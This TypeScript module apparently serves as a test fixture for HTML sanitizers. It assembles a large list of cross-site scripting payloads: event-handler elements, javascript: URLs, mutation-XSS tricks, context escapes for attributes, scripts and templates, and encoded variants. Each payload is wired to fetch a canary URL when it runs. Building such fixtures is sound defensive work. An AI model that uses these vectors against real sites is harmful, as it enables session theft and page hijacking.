/** Where a payload that becomes an element or runs would be heard of; no test serves it. */
export const CANARY = 'https://canary.test/';

/** What each payload would do if it ran: the page would know, and the network too. */
const CALL = `document.documentElement.setAttribute('data-ran',''),fetch('${CANARY}ran')`;

/** Elements that run or fetch by themselves, in the ways that sanitizers and templates have been passed by. */
const ELEMENTS = [
  '<script data-payload>CALL</script>',
  '<script data-payload src=CANARY></script>',
  '<img data-payload src=x onerror=CALL>',
  '<img data-payload src="CANARY">',
  '<IMG DATA-PAYLOAD SRC=x OnErRoR=CALL//',
  '<img/data-payload/src=x/onerror=CALL>',
  '<svg data-payload onload=CALL>',
  '<svg data-payload><script>CALL</script></svg>',
  '<svg data-payload><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg data-payload><use href="data:image/svg+xml,<svg id=x onload=CALL>#x"></use></svg>',
  '<svg data-payload><foreignObject><iframe srcdoc="<script>parent.CALL</script>"></foreignObject></svg>',
  '<iframe data-payload srcdoc="<script>parent.CALL</script>"></iframe>',
  '<iframe data-payload src="javascript:parent.CALL"></iframe>',
  '<iframe data-payload src=CANARY></iframe>',
  '<object data-payload data=CANARY></object>',
  '<embed data-payload src=CANARY>',
  '<base data-payload href=CANARY>',
  '<meta data-payload http-equiv=refresh content="0;url=CANARY">',
  '<link data-payload rel=stylesheet href=CANARY>',
  '<link data-payload rel=preload as=image href=CANARY>',
  '<style data-payload>@import "CANARY";</style>',
  '<style data-payload>*{background:url(CANARY)}</style>',
  '<form data-payload action=CANARY><input autofocus onfocus=CALL></form>',
  '<button data-payload form=x formaction="javascript:CALL" autofocus onfocus=CALL>x</button>',
  '<input data-payload type=image src=CANARY onerror=CALL>',
  '<select data-payload autofocus onfocus=CALL></select>',
  '<textarea data-payload autofocus onfocus=CALL></textarea>',
  '<details data-payload open ontoggle=CALL>x</details>',
  '<marquee data-payload onstart=CALL>x</marquee>',
  '<video data-payload poster=CANARY src=x onerror=CALL></video>',
  '<video data-payload><source src=x onerror=CALL></video>',
  '<audio data-payload src=x onerror=CALL autoplay></audio>',
  '<body data-payload onload=CALL>',
  '<body data-payload background=CANARY>',
  '<table data-payload background=CANARY><td>x</table>',
  '<a data-payload href="javascript:CALL" autofocus onfocus=CALL>x</a>',
  '<x data-payload contenteditable autofocus onfocus=CALL>x</x>',
  '<x data-payload style="animation:a" onanimationstart=CALL>x</x>',
  '<math data-payload href="javascript:CALL">x</math>',
  '<math data-payload><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CALL&gt;">',
  '<noscript data-payload><p title="</noscript><img src=x onerror=CALL>">',
  '<template data-payload shadowrootmode=open><img src=x onerror=CALL></template>',
  '<portal data-payload src=CANARY></portal>',
  '<frameset data-payload onload=CALL>',
  '<isindex data-payload action="javascript:CALL" type=image>',
  '<bgsound data-payload src=CANARY>',
  '<keygen data-payload autofocus onfocus=CALL>',
  '<applet data-payload code=CANARY>',
  '<dialog data-payload open onclose=CALL><form method=dialog><button autofocus></form></dialog>',
  '<div data-payload popover onbeforetoggle=CALL>x</div>',
] as const;

/** Ways out of where a text stands: attributes, comments, other elements, strings of scripts, templates. */
const ENDS = [
  '"><img data-payload src=x onerror=CALL>',
  "' autofocus onfocus=CALL data-payload x='",
  '" autofocus onfocus=CALL data-payload x="',
  '</textarea><img data-payload src=x onerror=CALL>',
  '</title><img data-payload src=x onerror=CALL>',
  '</style><img data-payload src=x onerror=CALL>',
  '</script><img data-payload src=x onerror=CALL>',
  '--><img data-payload src=x onerror=CALL>',
  '--!><img data-payload src=x onerror=CALL>',
  ']]><img data-payload src=x onerror=CALL>',
  '</blockquote></bdi></p></li></ul></main><img data-payload src=x onerror=CALL>',
  '\\"});CALL;({"',
  "';CALL;'",
  '`;CALL;`',
  '$' + '{CALL}',
  '{{constructor.constructor("CALL")()}}',
  '<%= CALL %>',
  '#{CALL}',
  '$1 $& $` $HEADLINE$ <img data-payload src=x onerror=CALL>',
] as const;

/** Written otherwise: what is decoded once too often becomes an element. */
const WRITTEN: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

/** Others that are one by themselves. */
const SINGLE = [
  '\\u003cimg data-payload src=x onerror=CALL\\u003e',
  '%3Cimg%20data-payload%20src=x%20onerror=CALL%3E',
  '&#x3C;img data-payload src=x onerror=CALL&#x3E;',
  '&#60img data-payload src=x onerror=CALL&#62',
  '&amp;lt;img data-payload src=x onerror=CALL&amp;gt;',
  '+ADw-img data-payload src=x onerror=CALL+AD4-',
  '<\u00adimg data-payload src=x onerror=CALL>',
  '<img data-payload src=x onerror=CALL \u2028>',
  '\ufeff<img data-payload src=x onerror=CALL>',
  '\u202e<img data-payload src=x onerror=CALL>',
  '![x](CANARY) [x](javascript:CALL)',
  '[img]CANARY[/img]',
] as const;

/** Every payload, each with the call that would betray it. */
export const PAYLOADS: readonly string[] = [
  ...[...ELEMENTS, ...ENDS].flatMap((payload) => WRITTEN.map((write) => write(payload))),
  ...SINGLE,
].map((payload) => payload.replaceAll('CALL', CALL).replaceAll('CANARY', CANARY));
